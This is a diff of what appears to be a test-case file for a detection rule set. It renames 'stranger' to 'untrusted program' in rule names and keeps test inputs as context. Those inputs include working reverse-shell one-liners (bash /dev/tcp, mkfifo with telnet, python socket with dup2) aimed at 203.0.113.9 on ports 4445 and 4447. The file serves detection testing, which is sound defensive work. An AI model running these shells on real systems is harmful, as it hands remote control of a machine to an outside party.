@@ -6,7 +6,7 @@ bash -c 'bash -i >& /dev/tcp/203.0.113.9/4445 0>&1'
 sh -c 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | timeout 1 telnet 203.0.113.9 4445 > /tmp/f'
 ## Reverse shell in one line of an interpreter
 #also Code without a file connects to an address without a name
-#also Connection of a stranger to an unusual port
+#also Connection of an untrusted program to an unusual port
 python3 -c 'import socket,os; s=socket.socket(); s.connect(("203.0.113.9",4445)); os.dup2(s.fileno(),0); os.system("/bin/sh")'
 ## Shell with a connection, of a program that no package installed
 #also Command of a reverse shell
@@ -19,15 +19,15 @@ python3 -c 'import socket,os; s=socket.socket(); s.connect(("203.0.113.9",4445))
 remote '/home/ann/tool -c "sh -c true; true"'
 ## Input and output tied to a connection with another machine
 #also Code without a file connects to an address without a name
-#also Connection of a stranger to an unusual port
+#also Connection of an untrusted program to an unusual port
 #also Reverse shell in one line of an interpreter
 #setup listener 4445
 sh -c 'python3 -c "import socket, os; s = socket.create_connection((\"203.0.113.9\", 4445)); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)"'
 ## Input and output tied to a connection from another machine
 #also Code without a file connects to an address without a name
 #also Code without a file waits for callers
-#also Connection of a stranger to an unusual port
-#also Connections of others led on by a stranger
+#also Connection of an untrusted program to an unusual port
+#also Connections of others led on by an untrusted program
 #also Reverse shell in one line of an interpreter
 python3 -c 'import socket, os
 s = socket.create_server(("", 4447)); c = socket.create_connection(("203.0.113.9", 4447)); a, _ = s.accept()
